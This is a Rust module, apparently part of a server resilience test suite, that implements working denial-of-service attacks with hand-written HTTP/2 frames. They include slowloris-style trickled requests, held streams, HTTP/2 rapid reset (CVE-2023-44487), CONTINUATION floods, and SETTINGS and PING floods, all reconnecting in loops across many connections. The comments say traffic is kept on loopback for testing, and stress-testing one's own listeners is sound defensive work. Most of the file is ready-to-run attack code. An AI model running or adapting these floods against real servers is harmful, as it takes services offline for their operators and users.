//! The attack battery: what an attacker sends to knock a listener over,
//! written from RFC 9113 (HTTP/2 framing) and the published attack classes
//! (slowloris, HTTP/2 rapid reset CVE-2023-44487, the CONTINUATION flood of
//! 2024, SETTINGS and PING floods, streams held open with slow bodies).
//!
//! Each attack runs `conns` connections at once from its own tasks for
//! `for_`, reconnecting whenever the server closes one (as an attacker
//! would), and reports what it did. Frames are written by hand: a client
//! library would refuse to misbehave. Traffic goes only to the address
//! given, which the tests keep on loopback.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// What an attack did.
#[derive(Debug, Default)]
pub struct Report {
    /// Connections opened (the first ones and every reconnection).
    pub connections: AtomicU64,
    /// Frames or bytes sent, by the attack's own unit.
    pub sent: AtomicU64,
}

/// The kinds of attack, each against one address.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Connects and sends nothing.
    Silent,
    /// An HTTP/1.1 head, one byte every 200 ms, never finished.
    TrickledHead,
    /// An HTTP/1.1 request whose 4,000-byte body comes one byte a second.
    TrickledBody,
    /// HTTP/2: as many POST streams as the server allows on each
    /// connection, each body one byte a second, never finished.
    HeldStreams,
    /// HTTP/2 rapid reset: HEADERS then RST_STREAM, as fast as it goes.
    RapidReset,
    /// HTTP/2: one HEADERS without END_HEADERS, then CONTINUATION frames
    /// without end.
    ContinuationFlood,
    /// HTTP/2: SETTINGS frames as fast as it goes.
    SettingsFlood,
    /// HTTP/2: PING frames as fast as it goes.
    PingFlood,
}

impl Kind {
    /// Every attack.
    pub const ALL: [Kind; 8] = [
        Kind::Silent,
        Kind::TrickledHead,
        Kind::TrickledBody,
        Kind::HeldStreams,
        Kind::RapidReset,
        Kind::ContinuationFlood,
        Kind::SettingsFlood,
        Kind::PingFlood,
    ];

    /// Whether it speaks HTTP/2 (the others work on any TCP listener,
    /// TLS included).
    pub fn is_h2(self) -> bool {
        !matches!(self, Kind::Silent | Kind::TrickledHead | Kind::TrickledBody)
    }
}

/// Runs `kind` with `conns` connections against `addr` for `for_`, with
/// `path` as the request target of what it sends (and `authority` as its
/// host); returns what it did once every connection has stopped.
pub async fn run(
    kind: Kind,
    addr: SocketAddr,
    authority: &str,
    path: &str,
    conns: usize,
    for_: Duration,
) -> Arc<Report> {
    let report = Arc::new(Report::default());
    let until = Instant::now() + for_;
    let mut tasks = Vec::with_capacity(conns);
    for i in 0..conns {
        let report = report.clone();
        let (authority, path) = (authority.to_string(), path.to_string());
        tasks.push(tokio::spawn(async move {
            // Spread the connections' starts a little, as a crowd would.
            tokio::time::sleep(Duration::from_millis((i % 50) as u64)).await;
            while Instant::now() < until {
                let Ok(Ok(tcp)) =
                    tokio::time::timeout(Duration::from_secs(2), TcpStream::connect(addr)).await
                else {
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    continue;
                };
                report.connections.fetch_add(1, Ordering::Relaxed);
                let _ = tokio::time::timeout_at(
                    until.into(),
                    one(kind, tcp, &authority, &path, &report),
                )
                .await;
            }
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
    report
}

/// One connection of an attack, until the server closes it.
async fn one(kind: Kind, tcp: TcpStream, authority: &str, path: &str, report: &Report) {
    let (mut rd, mut wr) = tcp.into_split();
    // Read and drop whatever the server says, so its writes never block
    // on us (that would make the attack weaker, not stronger); a close
    // ends the connection's attack.
    let drain = async move {
        let mut buf = vec![0u8; 16 * 1024];
        while let Ok(n) = rd.read(&mut buf).await {
            if n == 0 {
                break;
            }
        }
    };
    let send = async move {
        match kind {
            Kind::Silent => std::future::pending::<()>().await,
            Kind::TrickledHead => {
                let head = format!("GET {path} HTTP/1.1\r\nHost: {authority}\r\nX-Slow: ");
                for b in head.bytes().chain(std::iter::repeat(b'a')) {
                    if wr.write_all(&[b]).await.is_err() {
                        return;
                    }
                    report.sent.fetch_add(1, Ordering::Relaxed);
                    tokio::time::sleep(Duration::from_millis(200)).await;
                }
            }
            Kind::TrickledBody => {
                let head = format!(
                    "POST {path} HTTP/1.1\r\nHost: {authority}\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n"
                );
                if wr.write_all(head.as_bytes()).await.is_err() {
                    return;
                }
                loop {
                    if wr.write_all(b" ").await.is_err() {
                        return;
                    }
                    report.sent.fetch_add(1, Ordering::Relaxed);
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
            }
            Kind::HeldStreams => {
                let mut out = preface();
                for id in (1..=2 * 256u32).step_by(2) {
                    out.extend(headers(id, "POST", authority, path, false, true));
                }
                if wr.write_all(&out).await.is_err() {
                    return;
                }
                loop {
                    tokio::time::sleep(Duration::from_secs(1)).await;
                    let mut out = Vec::new();
                    for id in (1..=2 * 256u32).step_by(2) {
                        out.extend(frame(DATA, 0, id, b"a"));
                    }
                    if wr.write_all(&out).await.is_err() {
                        return;
                    }
                    report.sent.fetch_add(256, Ordering::Relaxed);
                }
            }
            Kind::RapidReset => {
                if wr.write_all(&preface()).await.is_err() {
                    return;
                }
                let mut id = 1u32;
                loop {
                    let mut out = Vec::with_capacity(64 * 64);
                    for _ in 0..64 {
                        out.extend(headers(id, "GET", authority, path, true, true));
                        out.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
                        id = id.wrapping_add(2) & 0x7fff_ffff;
                    }
                    if wr.write_all(&out).await.is_err() {
                        return;
                    }
                    report.sent.fetch_add(64, Ordering::Relaxed);
                    tokio::task::yield_now().await;
                }
            }
            Kind::ContinuationFlood => {
                let mut out = preface();
                out.extend(headers(1, "GET", authority, path, true, false));
                if wr.write_all(&out).await.is_err() {
                    return;
                }
                let block: Vec<u8> = (0..200)
                    .flat_map(|i| literal(&format!("x-flood-{i}"), "aaaaaaaaaaaaaaaaaaaa"))
                    .collect();
                loop {
                    if wr
                        .write_all(&frame(CONTINUATION, 0, 1, &block))
                        .await
                        .is_err()
                    {
                        return;
                    }
                    report.sent.fetch_add(1, Ordering::Relaxed);
                    tokio::task::yield_now().await;
                }
            }
            Kind::SettingsFlood | Kind::PingFlood => {
                if wr.write_all(&preface()).await.is_err() {
                    return;
                }
                let one = if kind == Kind::SettingsFlood {
                    // SETTINGS_INITIAL_WINDOW_SIZE, again and again.
                    frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])
                } else {
                    frame(PING, 0, 0, &[7; 8])
                };
                let batch: Vec<u8> = one.iter().copied().cycle().take(one.len() * 256).collect();
                loop {
                    if wr.write_all(&batch).await.is_err() {
                        return;
                    }
                    report.sent.fetch_add(256, Ordering::Relaxed);
                    tokio::task::yield_now().await;
                }
            }
        }
    };
    tokio::select! {
        () = drain => {}
        () = send => {}
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// The client connection preface and an empty SETTINGS frame (RFC 9113
/// §3.4).
pub fn preface() -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(frame(SETTINGS, 0, 0, &[]));
    out
}

/// One frame (RFC 9113 §4.1): 24-bit length, type, flags, stream id.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).expect("a frame's payload fits 24 bits");
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A HEADERS frame for a request (literal fields, no Huffman, no index:
/// RFC 7541 §6.2.2).
pub fn headers(
    stream: u32,
    method: &str,
    authority: &str,
    path: &str,
    end_stream: bool,
    end_headers: bool,
) -> Vec<u8> {
    let mut block = Vec::new();
    for (n, v) in [
        (":method", method),
        (":scheme", "http"),
        (":authority", authority),
        (":path", path),
    ] {
        block.extend(literal(n, v));
    }
    let mut flags = 0;
    if end_stream {
        flags |= END_STREAM;
    }
    if end_headers {
        flags |= END_HEADERS;
    }
    frame(HEADERS, flags, stream, &block)
}

/// A literal header field without indexing, with a new name.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut out = vec![0u8];
    for s in [name, value] {
        int7(&mut out, s.len());
        out.extend_from_slice(s.as_bytes());
    }
    out
}

/// An HPACK integer with a 7-bit prefix (RFC 7541 §5.1), Huffman bit off.
fn int7(out: &mut Vec<u8>, mut n: usize) {
    if n < 127 {
        out.push(n as u8);
        return;
    }
    out.push(127);
    n -= 127;
    while n >= 128 {
        out.push((n % 128) as u8 | 0x80);
        n /= 128;
    }
    out.push(n as u8);
}

/// Descriptors a process holds now (Linux), or `None` when unknown.
pub fn open_descriptors(pid: u32) -> Option<usize> {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .ok()
        .map(|d| d.count())
}

/// A process's resident memory in bytes (Linux), or `None` when unknown.
pub fn resident_bytes(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmRSS:"))?;
    let kb: u64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kb * 1024)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_header_is_nine_bytes_big_endian() {
        let f = frame(HEADERS, END_HEADERS, 3, b"abc");
        assert_eq!(&f[..9], &[0, 0, 3, HEADERS, END_HEADERS, 0, 0, 0, 3]);
        assert_eq!(&f[9..], b"abc");
    }

    #[test]
    fn hpack_integers_follow_rfc_7541() {
        // RFC 7541 C.1.2: 1337 with a 5-bit prefix is 31, 154, 10; with a
        // 7-bit prefix the continuation of 1337 - 127 = 1210 is 186, 9.
        let mut out = Vec::new();
        int7(&mut out, 1337);
        assert_eq!(out, [127, 0x80 | (1210 % 128) as u8, (1210 / 128) as u8]);
        let mut small = Vec::new();
        int7(&mut small, 10);
        assert_eq!(small, [10]);
    }

    /// A real HTTP/2 server (hyper's) reads the frames as a request.
    #[test]
    fn hyper_reads_the_hand_written_request() {
        crate::test_runtime().block_on(async {
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let addr = listener.local_addr().unwrap();
            let (tx, rx) = tokio::sync::oneshot::channel();
            tokio::spawn(async move {
                let (tcp, _) = listener.accept().await.unwrap();
                let tx = std::sync::Mutex::new(Some(tx));
                let svc = hyper::service::service_fn(move |req: hyper::Request<_>| {
                    if let Some(tx) = tx.lock().unwrap().take() {
                        let _ = tx.send((req.method().to_string(), req.uri().path().to_string()));
                    }
                    async { Ok::<_, std::convert::Infallible>(hyper::Response::new(String::new())) }
                });
                let _ = hyper::server::conn::http2::Builder::new(Exec)
                    .serve_connection(hyper_util::rt::TokioIo::new(tcp), svc)
                    .await;
            });
            let mut tcp = TcpStream::connect(addr).await.unwrap();
            let mut out = preface();
            out.extend(headers(1, "GET", "x", "/probe", true, true));
            tcp.write_all(&out).await.unwrap();
            let (method, path) = tokio::time::timeout(Duration::from_secs(20), rx)
                .await
                .unwrap()
                .unwrap();
            assert_eq!((method.as_str(), path.as_str()), ("GET", "/probe"));
        });
    }

    #[derive(Clone)]
    struct Exec;

    impl<F> hyper::rt::Executor<F> for Exec
    where
        F: std::future::Future + Send + 'static,
        F::Output: Send + 'static,
    {
        fn execute(&self, f: F) {
            tokio::spawn(f);
        }
    }
}
